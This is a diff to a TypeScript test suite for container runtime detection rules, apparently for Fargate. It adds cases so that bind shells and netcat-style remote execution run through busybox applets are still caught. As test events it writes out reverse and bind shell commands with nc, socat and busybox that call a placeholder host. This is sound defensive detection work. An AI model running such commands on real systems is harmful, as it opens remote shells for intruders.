@@ -167,18 +167,26 @@ test('stdio redirected to a network socket', () => {
 
 test('stdio on an accepted connection', () => {
   const r = 'Fargate stdio on an accepted connection';
-  const accepted = (comm: string, newfd = 0) =>
-    event('dup2', proc({ comm }), { res: newfd, args: { res: newfd, oldfd: 4, newfd }, fd: tcpFd(4, '10.0.0.9', 51000, '172.17.0.2', 8080, false) });
+  const accepted = (who: string | ProcessInfo, newfd = 0) =>
+    event('dup2', typeof who === 'string' ? proc({ comm: who }) : who, { res: newfd, args: { res: newfd, oldfd: 4, newfd }, fd: tcpFd(4, '10.0.0.9', 51000, '172.17.0.2', 8080, false) });
   fires(r, accepted('python3'), accepted('node', 2)); // a bind shell in an application runtime
   // inetd-style servers hand the connection to a handler on 0 and 1
   quiet(r, accepted('busybox'), accepted('httpd', 1), accepted('tcpsvd'), accepted('python3', 5));
+  // busybox sh runs applets through /proc/self/exe: proc.name is "exe"
+  quiet(r, accepted(proc({ comm: 'exe', exepath: '/usr/bin/busybox' })));
+  fires(r, accepted('exe'));
 });
 
 test('netcat remote execution', () => {
   const r = 'Fargate netcat remote execution';
   fires(r, execve(proc({ comm: 'nc', args: ['-e', '/bin/sh', '1.2.3.4', '4444'] })), execve(proc({ comm: 'socat', args: ['tcp:1.2.3.4:4444', 'exec:/bin/sh'] })));
-  fires(r, execve(proc({ comm: 'busybox', args: ['nc', '-l', '-p', '4444', '-e', '/bin/sh'] })));
-  quiet(r, execve(proc({ comm: 'nc', args: ['-z', 'db', '5432'] })), execve(proc({ comm: 'busybox', args: ['wget', '-e', 'robots=off', 'http://x/'] })));
+  const busybox = { exepath: '/usr/bin/busybox' };
+  fires(
+    r,
+    execve(proc({ comm: 'busybox', ...busybox, exe: 'busybox', args: ['nc', '-l', '-p', '4444', '-e', '/bin/sh'] })),
+    execve(proc({ comm: 'exe', ...busybox, exe: 'nc', args: ['-l', '-p', '4444', '-e', '/bin/sh'] })), // an applet run by busybox sh
+  );
+  quiet(r, execve(proc({ comm: 'nc', args: ['-z', 'db', '5432'] })), execve(proc({ comm: 'busybox', ...busybox, args: ['wget', '-e', 'robots=off', 'http://x/'] })));
 });
 
 test('cgroup release_agent write', () => {
